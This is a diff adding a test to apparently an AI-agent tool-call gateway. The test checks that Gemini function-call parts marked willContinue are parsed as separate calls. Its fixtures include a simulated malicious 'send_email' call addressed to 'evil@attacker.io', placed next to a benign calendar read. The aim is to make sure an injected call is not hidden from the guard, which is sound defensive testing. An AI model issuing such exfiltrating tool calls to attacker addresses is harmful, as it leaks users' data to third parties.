@@ -342,3 +342,16 @@ def test_mcp_servers_are_server_tools_recorded_without_their_credentials(live):
     recorded = live.api("GET", "/tools", params={"profile_id": pid, "name": "mcp:crm"}).json()["data"]
     assert "mcp.example" in json.dumps(recorded) and "mcp-secret" not in json.dumps(recorded)
     assert "mcp-secret" not in json.dumps(live.blocked(pid, 1))
+
+
+def test_only_argument_pieces_continue_a_call():
+    from archestra.providers.gemini_format import function_calls
+
+    def call(name: str, args: dict | None = None, **extra) -> dict:
+        return {"functionCall": {"name": name, **({"args": args} if args is not None else {}), **extra}}
+
+    # Another function, or whole arguments, after willContinue: another call, as clients read it.
+    parts = [call("read_calendar", {}, willContinue=True), call("send_email", EVIL)]
+    assert [(c.name, c.arguments) for c in function_calls(parts)] == [("read_calendar", {}), ("send_email", EVIL)]
+    parts = [call("send_email", EVIL, willContinue=True), call("send_email", {"to": "boss@company.com"})]
+    assert [c.arguments["to"] for c in function_calls(parts)] == ["evil@attacker.io", "boss@company.com"]
